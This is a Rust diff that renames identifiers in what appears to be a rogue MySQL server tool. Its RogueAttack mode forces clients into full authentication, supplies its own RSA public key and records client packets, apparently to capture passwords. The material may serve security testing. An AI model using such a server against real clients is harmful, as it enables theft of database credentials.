@@ -5,7 +5,7 @@ use std::io;
 use tokio::io::{AsyncRead, AsyncWrite, AsyncWriteExt};
 
 use super::RogueAttack;
-use super::recording::ClientRecording;
+use super::recording::ClientPacketRecorder;
 use super::rsa_key::PUBLIC_KEY_PEM;
 use crate::fake_server::packets;
 use crate::mysql_packets::{read_packet, write_packet};
@@ -17,7 +17,7 @@ const PERFORM_FULL_AUTHENTICATION_STATUS: u8 = 4;
 /// Packets with which `caching_sha2_password` and `sha256_password` clients request the server's RSA key.
 const RSA_KEY_REQUESTS: [&[u8]; 2] = [&[2], &[1]];
 
-pub(super) fn default_auth_plugin(mode: &RogueAttack) -> &'static str {
+pub(super) fn auth_plugin_in_greeting(mode: &RogueAttack) -> &'static str {
     match mode {
         RogueAttack::FullAuthentication => "caching_sha2_password",
         _ => "mysql_native_password",
@@ -28,7 +28,7 @@ pub(super) async fn complete_authentication<S: AsyncRead + AsyncWrite + Unpin>(
     stream: &mut S,
     mut sequence: u8,
     mode: &RogueAttack,
-    recording: &ClientRecording,
+    recording: &ClientPacketRecorder,
 ) -> io::Result<()> {
     let request = match mode {
         RogueAttack::FullAuthentication => Some(vec![AUTH_MORE_DATA, PERFORM_FULL_AUTHENTICATION_STATUS]),
@@ -38,17 +38,17 @@ pub(super) async fn complete_authentication<S: AsyncRead + AsyncWrite + Unpin>(
         _ => None,
     };
     if let Some(request) = request {
-        sequence = exchange_authentication_data(stream, sequence, &request, recording).await?;
+        sequence = request_authentication_data(stream, sequence, &request, recording).await?;
     }
     write_packet(stream, sequence.wrapping_add(1), &packets::OK_PACKET).await?;
     stream.flush().await
 }
 
-async fn exchange_authentication_data<S: AsyncRead + AsyncWrite + Unpin>(
+async fn request_authentication_data<S: AsyncRead + AsyncWrite + Unpin>(
     stream: &mut S,
     sequence: u8,
     request: &[u8],
-    recording: &ClientRecording,
+    recording: &ClientPacketRecorder,
 ) -> io::Result<u8> {
     write_packet(stream, sequence.wrapping_add(1), request).await?;
     stream.flush().await?;
